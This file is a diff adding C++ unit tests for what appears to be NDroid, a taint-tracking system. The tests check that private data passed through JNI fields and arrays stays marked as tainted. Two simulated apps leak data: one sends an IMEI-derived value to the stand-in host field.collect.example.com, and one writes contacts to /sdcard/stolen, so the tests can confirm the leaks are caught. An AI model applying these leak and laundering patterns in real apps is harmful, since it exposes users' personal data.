@@ -1,0 +1,242 @@
+// End-to-end flows through the Table IV field-access hooks and the array
+// TrustCall handlers: fields and arrays as taint smuggling channels across
+// the JNI boundary.
+#include <gtest/gtest.h>
+
+#include "apps/native_lib_builder.h"
+#include "core/ndroid.h"
+
+namespace ndroid::core {
+namespace {
+
+using android::Device;
+using arm::LR;
+using arm::PC;
+using arm::R;
+using arm::SP;
+using dvm::CodeBuilder;
+using dvm::kAccPublic;
+using dvm::kAccStatic;
+using dvm::Method;
+
+TEST(FieldFlows, SetIntFieldSmugglesTaintIntoJavaObject) {
+  // Native stores a tainted int into obj.value via SetIntField; Java reads
+  // it back with iget and leaks it. Without the Table IV hook, the field's
+  // taint slot would stay clear.
+  Device device;
+  NDroid nd(device);
+  auto& dvm = device.dvm;
+
+  dvm::ClassObject* holder = dvm.define_class("Lfield/Holder;");
+  holder->add_instance_field("value", 'I');
+  dvm::ClassObject* app = dvm.define_class("Lfield/App;");
+
+  apps::NativeLibBuilder lib(device, "libfield.so");
+  auto& a = lib.a();
+  const GuestAddr cls_name = lib.cstr("field/Holder");
+  const GuestAddr field_name = lib.cstr("value");
+
+  // void stash(JNIEnv*, jclass, jobject holder, int secret)
+  const GuestAddr fn = lib.fn();
+  a.push({R(4), R(5), R(6), LR});
+  a.mov(R(4), R(0));  // env
+  a.mov(R(5), R(2));  // holder iref
+  a.mov(R(6), R(3));  // secret
+  a.mov_imm32(R(1), cls_name);
+  a.call(device.jni.fn("FindClass"));
+  a.mov(R(1), R(0));
+  a.mov(R(0), R(4));
+  a.mov_imm32(R(2), field_name);
+  a.mov_imm(R(3), 0);
+  a.call(device.jni.fn("GetFieldID"));
+  a.mov(R(2), R(0));  // fid
+  a.mov(R(0), R(4));
+  a.mov(R(1), R(5));
+  a.mov(R(3), R(6));
+  a.call(device.jni.fn("SetIntField"));
+  a.pop({R(4), R(5), R(6), PC});
+  lib.install();
+
+  Method* stash = dvm.define_native(app, "stash", "VLI",
+                                    kAccPublic | kAccStatic, fn);
+  Method* length = device.framework.string_ops->find_method("length");
+  Method* value_of = device.framework.string_ops->find_method("valueOf");
+  Method* sink = device.framework.network->find_method("send");
+  Method* src = device.framework.telephony->find_method("getDeviceId");
+
+  // main: h = new Holder; secret = length(getDeviceId());  (tainted int)
+  //       stash(h, secret); leaked = h.value;
+  //       send(host, valueOf(leaked))
+  CodeBuilder cb;
+  cb.new_instance(0, holder)
+      .invoke(src, {})
+      .move_result(1)
+      .invoke(length, {1})
+      .move_result(1)
+      .invoke(stash, {0, 1})
+      .iget(2, 0, 0)
+      .invoke(value_of, {2})
+      .move_result(3)
+      .const_string(4, "field.collect.example.com")
+      .invoke(sink, {4, 3})
+      .return_void();
+  Method* entry = dvm.define_method(app, "main", "V",
+                                    kAccPublic | kAccStatic, 5, cb.take());
+  dvm.call(*entry, {});
+
+  EXPECT_EQ(device.kernel.network().bytes_sent_to("field.collect.example.com"),
+            "15");  // strlen of the IMEI
+  ASSERT_FALSE(device.framework.leaks().empty());
+  EXPECT_EQ(device.framework.leaks()[0].taint & kTaintImei, kTaintImei);
+}
+
+TEST(FieldFlows, GetObjectFieldPullsTaintIntoNative) {
+  // Java stores a tainted string in a field; native fetches it with
+  // GetObjectField + GetStringUTFChars and leaks it via write().
+  Device device;
+  NDroid nd(device);
+  auto& dvm = device.dvm;
+
+  dvm::ClassObject* holder = dvm.define_class("Lfield/Box;");
+  holder->add_instance_field("data", 'L');
+  dvm::ClassObject* app = dvm.define_class("Lfield/App2;");
+
+  apps::NativeLibBuilder lib(device, "libfield2.so");
+  auto& a = lib.a();
+  const GuestAddr cls_name = lib.cstr("field/Box");
+  const GuestAddr field_name = lib.cstr("data");
+  const GuestAddr path = lib.cstr("/sdcard/stolen");
+
+  // void grab(JNIEnv*, jclass, jobject box)
+  const GuestAddr fn = lib.fn();
+  a.push({R(4), R(5), R(6), LR});
+  a.mov(R(4), R(0));
+  a.mov(R(5), R(2));  // box iref
+  a.mov_imm32(R(1), cls_name);
+  a.call(device.jni.fn("FindClass"));
+  a.mov(R(1), R(0));
+  a.mov(R(0), R(4));
+  a.mov_imm32(R(2), field_name);
+  a.mov_imm(R(3), 0);
+  a.call(device.jni.fn("GetFieldID"));
+  a.mov(R(2), R(0));
+  a.mov(R(0), R(4));
+  a.mov(R(1), R(5));
+  a.call(device.jni.fn("GetObjectField"));
+  // r0 = string iref
+  a.mov(R(1), R(0));
+  a.mov(R(0), R(4));
+  a.mov_imm(R(2), 0);
+  a.call(device.jni.fn("GetStringUTFChars"));
+  a.mov(R(5), R(0));  // C string
+  // fd = open(path, write); write(fd, p, strlen(p))
+  a.mov_imm32(R(0), path);
+  a.mov_imm(R(1), 1);
+  a.call(device.libc.fn("open"));
+  a.mov(R(6), R(0));
+  a.mov(R(0), R(5));
+  a.call(device.libc.fn("strlen"));
+  a.mov(R(2), R(0));
+  a.mov(R(0), R(6));
+  a.mov(R(1), R(5));
+  a.call(device.libc.fn("write"));
+  a.pop({R(4), R(5), R(6), PC});
+  lib.install();
+
+  Method* grab =
+      dvm.define_native(app, "grab", "VL", kAccPublic | kAccStatic, fn);
+  Method* src = device.framework.contacts->find_method("queryContacts");
+
+  // main: b = new Box; b.data = queryContacts(); grab(b)
+  CodeBuilder cb;
+  cb.new_instance(0, holder)
+      .invoke(src, {})
+      .move_result(1)
+      .iput(1, 0, 0)
+      .invoke(grab, {0})
+      .return_void();
+  Method* entry = dvm.define_method(app, "main", "V",
+                                    kAccPublic | kAccStatic, 2, cb.take());
+  dvm.call(*entry, {});
+
+  EXPECT_EQ(device.kernel.vfs().content_str("/sdcard/stolen"),
+            "1|Vincent|cx@gg.com");
+  ASSERT_FALSE(nd.leaks().empty());
+  EXPECT_EQ(nd.leaks()[0].sink, "write");
+  EXPECT_EQ(nd.leaks()[0].taint, kTaintContacts);
+}
+
+TEST(FieldFlows, ArrayRegionCarriesTaintBothWays) {
+  // Tainted Java int[] -> GetIntArrayRegion -> native buffer must be
+  // tainted; native buffer -> SetIntArrayRegion -> array object tainted.
+  Device device;
+  NDroid nd(device);
+  auto& dvm = device.dvm;
+
+  dvm::Object* arr = dvm.heap().new_array(nullptr, 4, 4, false);
+  dvm.heap().set_object_taint(*arr, kTaintSms);
+  const u32 arr_iref = dvm.irt().add(arr);
+  const GuestAddr buf = device.libc.malloc_guest(16);
+
+  device.cpu.call_function(device.jni.fn("GetIntArrayRegion"),
+                           {device.dvm.jnienv_addr(), arr_iref, 0, 4, buf});
+  EXPECT_EQ(nd.taint_engine().map().get_range(buf, 16), kTaintSms);
+
+  // Reverse: a clean array plus a tainted native buffer.
+  dvm::Object* clean = dvm.heap().new_array(nullptr, 4, 4, false);
+  const u32 clean_iref = dvm.irt().add(clean);
+  const GuestAddr buf2 = device.libc.malloc_guest(16);
+  nd.taint_engine().map().set_range(buf2, 16, kTaintImei);
+  device.cpu.call_function(device.jni.fn("SetIntArrayRegion"),
+                           {device.dvm.jnienv_addr(), clean_iref, 0, 4, buf2});
+  EXPECT_EQ(dvm.heap().object_taint(*clean), kTaintImei);
+}
+
+TEST(FieldFlows, GetByteArrayElementsAndReleaseRoundTrip) {
+  Device device;
+  NDroid nd(device);
+  auto& dvm = device.dvm;
+
+  dvm::Object* arr = dvm.heap().new_array(nullptr, 8, 1, false);
+  dvm.heap().set_object_taint(*arr, kTaintContacts);
+  const u32 iref = dvm.irt().add(arr);
+
+  const u32 buf = device.cpu.call_function(
+      device.jni.fn("GetByteArrayElements"),
+      {device.dvm.jnienv_addr(), iref, 0});
+  ASSERT_NE(buf, 0u);
+  EXPECT_EQ(nd.taint_engine().map().get_range(buf, 8), kTaintContacts);
+
+  // Taint the buffer with something new and release (mode 0 = copy back).
+  nd.taint_engine().map().add_range(buf, 8, kTaintImsi);
+  device.cpu.call_function(device.jni.fn("ReleaseByteArrayElements"),
+                           {device.dvm.jnienv_addr(), iref, buf, 0});
+  EXPECT_EQ(dvm.heap().object_taint(*arr) & kTaintImsi, kTaintImsi);
+}
+
+TEST(FieldFlows, StaticFieldHooks) {
+  Device device;
+  NDroid nd(device);
+  auto& dvm = device.dvm;
+  dvm::ClassObject* cls = dvm.define_class("Lfield/Stat;");
+  cls->add_static_field("cfg", 'I');
+  const GuestAddr fid = dvm.field_id(cls, "cfg", true);
+
+  // Native-side SetStaticIntField with a tainted value register.
+  nd.taint_engine().set_reg(3, kTaintIccid);
+  device.cpu.call_function(
+      device.jni.fn("SetStaticIntField"),
+      {device.dvm.jnienv_addr(), dvm.class_mirror(cls), fid, 777});
+  EXPECT_EQ(cls->statics()[0].value, 777u);
+  EXPECT_EQ(cls->statics()[0].taint, kTaintIccid);
+
+  // GetStaticIntField restores the taint into the native shadow.
+  nd.taint_engine().set_reg(0, kTaintClear);
+  device.cpu.call_function(
+      device.jni.fn("GetStaticIntField"),
+      {device.dvm.jnienv_addr(), dvm.class_mirror(cls), fid});
+  EXPECT_EQ(nd.taint_engine().reg(0), kTaintIccid);
+}
+
+}  // namespace
+}  // namespace ndroid::core
